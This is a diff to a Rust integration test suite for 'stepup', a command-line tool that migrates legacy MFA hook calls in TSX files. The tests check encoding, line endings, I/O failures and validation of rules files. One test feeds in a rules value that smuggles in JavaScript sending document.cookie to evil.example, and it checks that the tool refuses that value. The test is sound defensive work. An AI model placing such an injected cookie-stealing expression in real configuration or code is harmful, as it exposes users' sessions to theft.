@@ -1,6 +1,9 @@
 //! Black-box tests of the command-line contract, each in a fresh temp dir.
 
+mod common;
+
 use assert_cmd::Command;
+use common::{git, repo, write};
 use std::path::Path;
 use std::process::Command as Proc;
 
@@ -41,46 +44,6 @@ export function Fine() {
 
 fn stepup() -> Command {
     Command::cargo_bin("stepup").unwrap()
-}
-
-fn git(dir: &Path, args: &[&str]) {
-    let out = Proc::new("git")
-        .arg("-C")
-        .arg(dir)
-        .args([
-            "-c",
-            "user.email=t@example.com",
-            "-c",
-            "user.name=t",
-            "-c",
-            "commit.gpgsign=false",
-        ])
-        .args(args)
-        .output()
-        .unwrap();
-    assert!(
-        out.status.success(),
-        "git {args:?}: {}",
-        String::from_utf8_lossy(&out.stderr)
-    );
-}
-
-fn write(dir: &Path, rel: &str, content: &[u8]) {
-    let p = dir.join(rel);
-    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
-    std::fs::write(p, content).unwrap();
-}
-
-/// A committed git repository holding the given files.
-fn repo(files: &[(&str, &str)]) -> tempfile::TempDir {
-    let dir = tempfile::tempdir().unwrap();
-    for (rel, content) in files {
-        write(dir.path(), rel, content.as_bytes());
-    }
-    git(dir.path(), &["init", "-q"]);
-    git(dir.path(), &["add", "-A"]);
-    git(dir.path(), &["commit", "-qm", "init"]);
-    dir
 }
 
 #[test]
@@ -384,7 +347,7 @@ fn write_outside_git_needs_allow_no_vcs() {
 
 #[test]
 fn non_utf8_file_is_skipped_with_a_message_and_left_untouched() {
-    let mut bytes = LEGACY.as_bytes().to_vec();
+    let mut bytes = CLEAN.as_bytes().to_vec();
     bytes.extend_from_slice(b"// caf\xe9\n");
     let dir = repo(&[("ok.tsx", LEGACY)]);
     write(dir.path(), "latin1.tsx", &bytes);
@@ -398,7 +361,7 @@ fn non_utf8_file_is_skipped_with_a_message_and_left_untouched() {
     assert_eq!(
         out.status.code(),
         Some(0),
-        "a deliberate skip is not a failure"
+        "a deliberate skip of a file without legacy usage is not a failure"
     );
     let stderr = String::from_utf8_lossy(&out.stderr);
     assert!(
@@ -411,6 +374,38 @@ fn non_utf8_file_is_skipped_with_a_message_and_left_untouched() {
             .unwrap()
             .contains("useStepUpAuthentication")
     );
+}
+
+/// A skipped file whose bytes name the legacy API cannot pass `check`: the
+/// skip is an error (exit 2), in the human and the JSON report.
+#[test]
+fn a_skipped_non_utf8_file_that_names_the_legacy_api_fails_check() {
+    let mut bytes = MANUAL_ONLY.as_bytes().to_vec();
+    bytes.extend_from_slice(b"// caf\xe9\n");
+    let dir = tempfile::tempdir().unwrap();
+    write(dir.path(), "clean.tsx", CLEAN.as_bytes());
+    write(dir.path(), "latin1.tsx", &bytes);
+    let out = stepup()
+        .arg("check")
+        .current_dir(dir.path())
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{stderr}");
+    assert!(
+        stderr.contains("latin1.tsx: skipped: not valid UTF-8")
+            && stderr.contains("it names the legacy MFA API"),
+        "{stderr}"
+    );
+    let out = stepup()
+        .args(["check", "--format", "json"])
+        .current_dir(dir.path())
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(2));
+    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(doc["problems"][0]["path"], "latin1.tsx");
+    assert_eq!(doc["problems"][0]["error"], true);
 }
 
 #[cfg(unix)]
@@ -655,4 +650,433 @@ fn a_made_up_hook_added_through_rules_is_rewritten() {
     let after = std::fs::read_to_string(dir.path().join("a.tsx")).unwrap();
     let expected = std::fs::read_to_string(fixture.join("expected.tsx")).unwrap();
     assert_eq!(after, expected);
+}
+
+/// Two committed repositories holding the same files (names as bytes).
+#[cfg(unix)]
+fn twin_repos(files: &[(&[u8], &[u8])]) -> (tempfile::TempDir, tempfile::TempDir) {
+    use std::os::unix::ffi::OsStrExt;
+    let make = || {
+        let dir = tempfile::tempdir().unwrap();
+        for (name, content) in files {
+            let p = dir.path().join(std::ffi::OsStr::from_bytes(name));
+            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+            std::fs::write(p, content).unwrap();
+        }
+        git(dir.path(), &["init", "-q"]);
+        git(dir.path(), &["add", "-A"]);
+        git(dir.path(), &["commit", "-qm", "init"]);
+        dir
+    };
+    (make(), make())
+}
+
+/// `git apply` of the dry run's patch in one repository gives exactly what
+/// `--write` gives in the other.
+#[cfg(unix)]
+fn assert_patch_equals_write(files: &[(&[u8], &[u8])]) {
+    use std::os::unix::ffi::OsStrExt;
+    let (a, b) = twin_repos(files);
+    let patch = stepup()
+        .arg("migrate")
+        .current_dir(a.path())
+        .output()
+        .unwrap();
+    assert_eq!(patch.status.code(), Some(0));
+    let mut apply = Proc::new("git")
+        .arg("-C")
+        .arg(a.path())
+        .args(["apply", "--whitespace=nowarn", "-"])
+        .stdin(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    use std::io::Write as _;
+    apply
+        .stdin
+        .take()
+        .unwrap()
+        .write_all(&patch.stdout)
+        .unwrap();
+    let applied = apply.wait_with_output().unwrap();
+    assert!(
+        applied.status.success(),
+        "git apply: {}\n{}",
+        String::from_utf8_lossy(&applied.stderr),
+        String::from_utf8_lossy(&patch.stdout)
+    );
+    stepup()
+        .args(["migrate", "--write"])
+        .current_dir(b.path())
+        .assert()
+        .code(0);
+    for (name, original) in files {
+        let rel = std::ffi::OsStr::from_bytes(name);
+        let via_patch = std::fs::read(a.path().join(rel)).unwrap();
+        let via_write = std::fs::read(b.path().join(rel)).unwrap();
+        assert_eq!(
+            via_patch,
+            via_write,
+            "{} differs between git apply and --write",
+            String::from_utf8_lossy(name)
+        );
+        assert_ne!(&via_write, original, "{}", String::from_utf8_lossy(name));
+    }
+}
+
+/// A lone CR is not a line break for git: in a block comment, in a
+/// template, or as every line break of a file (old Mac line endings).
+#[cfg(unix)]
+#[test]
+fn lone_carriage_returns_give_a_patch_git_applies() {
+    let comment = LEGACY.replace("export function", "/* a lone\rCR */\nexport function");
+    let template = LEGACY.replace("return <button", "const t = `one\rtwo`;\n  return <button");
+    let mac = LEGACY.replace('\n', "\r");
+    assert_patch_equals_write(&[
+        (b"src/comment.tsx", comment.as_bytes()),
+        (b"src/template.tsx", template.as_bytes()),
+        (b"src/mac.tsx", mac.as_bytes()),
+    ]);
+}
+
+/// In a file whose only line breaks are CRs, findings are placed at the
+/// line an editor shows, not all on line 1.
+#[test]
+fn findings_in_a_cr_only_file_have_real_line_numbers() {
+    let dir = tempfile::tempdir().unwrap();
+    write(
+        dir.path(),
+        "mac.tsx",
+        MANUAL_ONLY.replace('\n', "\r").as_bytes(),
+    );
+    let out = stepup()
+        .args(["check", "mac.tsx"])
+        .current_dir(dir.path())
+        .output()
+        .unwrap();
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert!(stdout.starts_with("mac.tsx:6:11  error"), "{stdout}");
+}
+
+/// A file name that is not UTF-8 is quoted in the patch as git quotes it.
+#[cfg(target_os = "linux")]
+#[test]
+fn non_utf8_file_names_give_a_patch_git_applies() {
+    assert_patch_equals_write(&[
+        (b"src/caf\xe9.tsx", LEGACY.as_bytes()),
+        (b"src/tab\there \"quoted\".tsx", LEGACY.as_bytes()),
+    ]);
+}
+
+/// The same file given twice is processed once: one diff, one write.
+#[test]
+fn a_file_given_twice_is_processed_once() {
+    let dir = repo(&[("src/a.tsx", LEGACY)]);
+    let out = stepup()
+        .args(["migrate", "src/a.tsx", "./src/a.tsx", "src"])
+        .current_dir(dir.path())
+        .output()
+        .unwrap();
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert_eq!(out.status.code(), Some(0));
+    assert_eq!(stdout.matches("diff --git").count(), 1, "{stdout}");
+    let out = stepup()
+        .args(["migrate", "--write", "src/a.tsx", "./src/a.tsx"])
+        .current_dir(dir.path())
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(0), "{stderr}");
+    assert!(stderr.contains("scanned 1 files"), "{stderr}");
+    assert!(
+        std::fs::read_to_string(dir.path().join("src/a.tsx"))
+            .unwrap()
+            .contains("useStepUpAuthentication")
+    );
+}
+
+/// stderr that cannot be written (a full disk) never panics: the work is
+/// done, stdout is written, and the exit code is 2.
+#[cfg(target_os = "linux")]
+#[test]
+fn a_full_stderr_is_exit_2_after_the_work_is_done() {
+    let full = || {
+        std::fs::OpenOptions::new()
+            .write(true)
+            .open("/dev/full")
+            .unwrap()
+    };
+    let dir = repo(&[("a.tsx", LEGACY), ("b.tsx", MANUAL_ONLY)]);
+    let out = Proc::new(assert_cmd::cargo::cargo_bin("stepup"))
+        .arg("check")
+        .current_dir(dir.path())
+        .stderr(full())
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&out.stdout).contains("b.tsx:6:11  error"));
+    let out = Proc::new(assert_cmd::cargo::cargo_bin("stepup"))
+        .args(["migrate", "--write"])
+        .current_dir(dir.path())
+        .stderr(full())
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(2));
+    assert!(
+        std::fs::read_to_string(dir.path().join("a.tsx"))
+            .unwrap()
+            .contains("useStepUpAuthentication"),
+        "the write happened"
+    );
+}
+
+/// A stdout whose reader went away ends stdout output quietly (as in
+/// ripgrep): no panic, no error; the exit code is the run's own.
+#[test]
+fn a_closed_stdout_is_not_an_error() {
+    let dir = repo(&[("a.tsx", LEGACY), ("b.tsx", MANUAL_ONLY)]);
+    let run = |args: &[&str]| {
+        let (reader, writer) = std::io::pipe().unwrap();
+        drop(reader);
+        Proc::new(assert_cmd::cargo::cargo_bin("stepup"))
+            .args(args)
+            .current_dir(dir.path())
+            .stdout(writer)
+            .output()
+            .unwrap()
+    };
+    let out = run(&["check"]);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(1), "{stderr}");
+    assert!(
+        !stderr.contains("panicked") && !stderr.contains("pipe"),
+        "{stderr}"
+    );
+    let out = run(&["migrate"]);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(0), "{stderr}");
+    assert!(stderr.contains("Needs manual review:"), "{stderr}");
+}
+
+/// A stdout that cannot be written for another reason is an error.
+#[cfg(target_os = "linux")]
+#[test]
+fn a_full_stdout_is_an_error() {
+    let dir = repo(&[("a.tsx", LEGACY)]);
+    let out = Proc::new(assert_cmd::cargo::cargo_bin("stepup"))
+        .arg("migrate")
+        .current_dir(dir.path())
+        .stdout(
+            std::fs::OpenOptions::new()
+                .write(true)
+                .open("/dev/full")
+                .unwrap(),
+        )
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{stderr}");
+    assert!(
+        stderr.contains("stepup: cannot write to stdout"),
+        "{stderr}"
+    );
+}
+
+/// A --report path that cannot be written stops the run before any file
+/// is written; one that fails at the end fails after the report on stderr.
+#[test]
+fn the_report_path_is_checked_before_writing() {
+    let dir = repo(&[("a.tsx", LEGACY), ("b.tsx", MANUAL_ONLY)]);
+    let out = stepup()
+        .args(["migrate", "--write", "--report", "no/such/dir/r.md"])
+        .current_dir(dir.path())
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{stderr}");
+    assert!(
+        stderr.contains("cannot write the report no/such/dir/r.md; nothing was scanned or written"),
+        "{stderr}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(dir.path().join("a.tsx")).unwrap(),
+        LEGACY
+    );
+}
+
+#[cfg(target_os = "linux")]
+#[test]
+fn a_report_that_fails_at_the_end_comes_after_the_review_list() {
+    let dir = repo(&[("a.tsx", LEGACY), ("b.tsx", MANUAL_ONLY), ("c.tsx", LEGACY)]);
+    std::fs::write(dir.path().join("c.tsx"), format!("{LEGACY}// wip\n")).unwrap();
+    let out = stepup()
+        .args(["migrate", "--write", "--report", "/dev/full"])
+        .current_dir(dir.path())
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{stderr}");
+    let review = stderr.find("Needs manual review:").expect(&stderr);
+    let not_written = stderr
+        .find("c.tsx: not written: has uncommitted")
+        .expect(&stderr);
+    let failed = stderr
+        .find("cannot write the report /dev/full")
+        .expect(&stderr);
+    assert!(review < failed && not_written < failed, "{stderr}");
+    assert!(
+        std::fs::read_to_string(dir.path().join("a.tsx"))
+            .unwrap()
+            .contains("useStepUpAuthentication")
+    );
+}
+
+/// The summary counts the files and edits written, not those planned.
+#[test]
+fn the_summary_counts_only_what_was_written() {
+    let dir = repo(&[("a.tsx", LEGACY)]);
+    std::fs::write(dir.path().join("a.tsx"), format!("{LEGACY}// wip\n")).unwrap();
+    let out = stepup()
+        .args(["migrate", "--write"])
+        .current_dir(dir.path())
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{stderr}");
+    assert!(stderr.contains("0 files changed, 0 edits"), "{stderr}");
+}
+
+/// GITHUB_STEP_SUMMARY naming a directory: the message names the variable,
+/// and migrate's annotations are printed first.
+#[test]
+fn a_bad_step_summary_path_is_named() {
+    let dir = repo(&[("a.tsx", MANUAL_ONLY)]);
+    let summary_dir = tempfile::tempdir().unwrap();
+    for command in ["check", "migrate"] {
+        let out = stepup()
+            .args([command, "--format", "github"])
+            .env("GITHUB_STEP_SUMMARY", summary_dir.path())
+            .current_dir(dir.path())
+            .output()
+            .unwrap();
+        let stderr = String::from_utf8_lossy(&out.stderr);
+        let annotations = String::from_utf8_lossy(&out.stdout).to_string() + &stderr;
+        assert_eq!(out.status.code(), Some(2), "{command}: {stderr}");
+        assert!(
+            stderr.contains(&format!(
+                "cannot append the job summary to GITHUB_STEP_SUMMARY={}",
+                summary_dir.path().display()
+            )),
+            "{command}: {stderr}"
+        );
+        assert!(
+            annotations.contains("::error file=a.tsx"),
+            "{command}: {annotations}"
+        );
+    }
+}
+
+/// Without git on PATH, --write says so (not "not inside a git work tree").
+#[test]
+fn write_without_git_on_path_says_so() {
+    let dir = repo(&[("a.tsx", LEGACY)]);
+    let empty = tempfile::tempdir().unwrap();
+    let out = stepup()
+        .args(["migrate", "--write"])
+        .env("PATH", empty.path())
+        .current_dir(dir.path())
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{stderr}");
+    assert!(
+        stderr.contains("a.tsx: not written: git is not on PATH"),
+        "{stderr}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(dir.path().join("a.tsx")).unwrap(),
+        LEGACY
+    );
+}
+
+/// A --rules value that is not what it claims to be is refused, naming the file.
+#[test]
+fn a_rules_value_that_is_not_an_identifier_is_refused() {
+    let dir = repo(&[("a.tsx", LEGACY)]);
+    write(
+        dir.path(),
+        "team.toml",
+        b"[[sensitive_calls]]\nname = \"revealSeedPhrase\"\n\
+          token_scope = \"Walletexport || fetch('https://evil.example/?c=' + document.cookie)\"\n",
+    );
+    let out = stepup()
+        .args(["migrate", "--write", "--rules", "team.toml"])
+        .current_dir(dir.path())
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{stderr}");
+    assert!(
+        stderr.contains("invalid rules file team.toml")
+            && stderr.contains("is not a JavaScript identifier"),
+        "{stderr}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(dir.path().join("a.tsx")).unwrap(),
+        LEGACY
+    );
+}
+
+/// A --rules scope the installed sdk-api-core does not declare is not
+/// written into source; the call is reported instead.
+#[test]
+fn a_rules_scope_the_installed_sdk_does_not_declare_is_not_written() {
+    let source = r#"import { usePromptMfaAuth } from '@dynamic-labs/sdk-react-core';
+
+export function Reveal({ wallet }: { wallet: { revealSeedPhrase: () => void } }) {
+  const promptMfaAuth = usePromptMfaAuth();
+  const onReveal = async () => {
+    await promptMfaAuth({ createMfaToken: true });
+    wallet.revealSeedPhrase();
+  };
+  return <button onClick={onReveal}>Reveal</button>;
+}
+"#;
+    let rules = "[[sensitive_calls]]\nname = \"revealSeedPhrase\"\ntoken_scope = \"Walletseed\"\n";
+    let declarations = "export declare enum TokenScope {\n    Walletexport = \"wallet:export\",\n    Walletsign = \"wallet:sign\"\n}\n";
+    let dir = repo(&[("src/a.tsx", source), ("team.toml", rules)]);
+    // Unknown declarations: the value is trusted.
+    let out = stepup()
+        .args(["migrate", "--rules", "team.toml", "src"])
+        .current_dir(dir.path())
+        .output()
+        .unwrap();
+    assert!(String::from_utf8_lossy(&out.stdout).contains("TokenScope.Walletseed"));
+    write(
+        dir.path(),
+        "node_modules/@dynamic-labs/sdk-api-core/package.json",
+        b"{ \"version\": \"0.0.1\" }",
+    );
+    write(
+        dir.path(),
+        "node_modules/@dynamic-labs/sdk-api-core/src/models/TokenScope.d.ts",
+        declarations.as_bytes(),
+    );
+    let out = stepup()
+        .args(["migrate", "--rules", "team.toml", "src"])
+        .current_dir(dir.path())
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        out.stdout.is_empty(),
+        "{}",
+        String::from_utf8_lossy(&out.stdout)
+    );
+    assert!(
+        stderr.contains(
+            "the guarded call `revealSeedPhrase` maps to TokenScope.Walletseed, which the installed @dynamic-labs/sdk-api-core does not declare"
+        ),
+        "{stderr}"
+    );
 }
